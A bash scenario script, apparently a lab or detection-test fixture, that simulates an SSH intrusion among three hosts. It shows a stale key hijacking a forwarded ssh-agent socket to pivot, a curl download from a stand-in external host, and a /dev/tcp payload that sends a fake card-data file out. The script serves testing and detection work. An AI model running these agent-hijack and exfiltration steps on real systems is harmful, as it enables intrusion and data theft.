# shellcheck shell=bash disable=SC2034,SC2088
HOST=bast01
SECOND=app07
THIRD=db07
FORMAT=ENRICHED
RULES=stig
UNSET=1

quiet="-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR"

# from ADDRESS KEY ACCOUNT@HOST COMMAND
from() { outside ssh $quiet -b "$1" -i "$work/$2.key" "$3" "$4"; }

sits() {
    sleep 2
    printf '%s\r' "ssh $quiet deploy@10.88.0.20 uptime"
    sleep "$1"
    printf '%s\r' "exit"
}

scenario() {
    local name over="-o ControlPath=/srv/home/ops/.m"
    mkdir -p /srv/db /run/sshd "$work/theirs"
    printf 'name,card\nada,4000\n' >/srv/db/cards.csv
    account ops 4051
    account deploy 4151
    account dba 4251
    ssh-keygen -q -t ed25519 -N "" -f /srv/host.key
    for name in admin old colleague; do ssh-keygen -q -t ed25519 -N "" -C "$name" -f "$work/$name.key"; done
    cat "$work/admin.key.pub" "$work/old.key.pub" >/srv/home/ops/.ssh/authorized_keys
    cat "$work/admin.key.pub" "$work/colleague.key.pub" | tee /srv/home/deploy/.ssh/authorized_keys >/srv/home/dba/.ssh/authorized_keys
    touch /srv/home/{ops,deploy,dba}/.hushlogin
    printf '%s\n' "HostKey /srv/host.key" "PidFile none" "UsePAM yes" "PasswordAuthentication no" "PrintMotd no" >/srv/sshd_config
    printf '%s\n' 'exec 3<>/dev/tcp/203.0.113.9/8443' 'cat .c >&3' >"$work/theirs/j"
    theirs
    inside /usr/sbin/sshd -D -f /srv/sshd_config >/dev/null 2>&1 &
    inside2 /usr/sbin/sshd -D -f /srv/sshd_config >/dev/null 2>&1 &
    inside3 /usr/sbin/sshd -D -f /srv/sshd_config >/dev/null 2>&1 &
    sleep 1
    outside ssh-agent -D -a "$work/agent" >/dev/null &
    sleep 1
    SSH_AUTH_SOCK=$work/agent ssh-add -q "$work/admin.key"
    from 10.88.0.55 colleague deploy@10.88.0.20 "ls /srv"
    sits 45 | SSH_AUTH_SOCK=$work/agent outside ssh -A -tt $quiet -b 192.0.2.7 ops@10.88.0.10 >/dev/null 2>&1 &
    local admin=$!
    sleep 5
    outside ssh $quiet -i "$work/admin.key" -o "ProxyCommand=ssh $quiet -b 192.0.2.7 -i $work/admin.key -W %h:%p ops@10.88.0.10" dba@10.88.0.30 "wc -l /srv/db/cards.csv"
    sleep 1
    from 198.51.100.23 old ops@10.88.0.10 "id; ls -l /tmp"
    sleep 1
    from 198.51.100.23 old ops@10.88.0.10 "SSH_AUTH_SOCK=\$(ls /tmp/ssh-*/agent.* 2>/dev/null | head -n 1) ssh -A -M -S /srv/home/ops/.m -fN $quiet deploy@10.88.0.20 >/dev/null 2>&1 </dev/null"
    sleep 2
    from 10.88.0.55 colleague dba@10.88.0.30 "ls /srv/db"
    from 198.51.100.23 old ops@10.88.0.10 "ssh -A $over deploy@10.88.0.20 'curl -s -o .j http://203.0.113.9:443/j'"
    sleep 2
    from 198.51.100.23 old ops@10.88.0.10 "ssh -A $over deploy@10.88.0.20 'ssh $quiet dba@10.88.0.30 cat /srv/db/cards.csv > .c'"
    from 10.88.0.55 colleague deploy@10.88.0.20 "ls -l /srv"
    sleep 2
    from 198.51.100.23 old ops@10.88.0.10 "ssh $over deploy@10.88.0.20 'bash .j'"
    sleep 1
    wait "$admin" || true
    outside ssh $quiet -i "$work/admin.key" -o "ProxyCommand=ssh $quiet -b 192.0.2.7 -i $work/admin.key -W %h:%p ops@10.88.0.10" dba@10.88.0.30 "wc -l /srv/db/cards.csv"
    from 10.88.0.55 colleague deploy@10.88.0.20 "ls -la /srv"
}
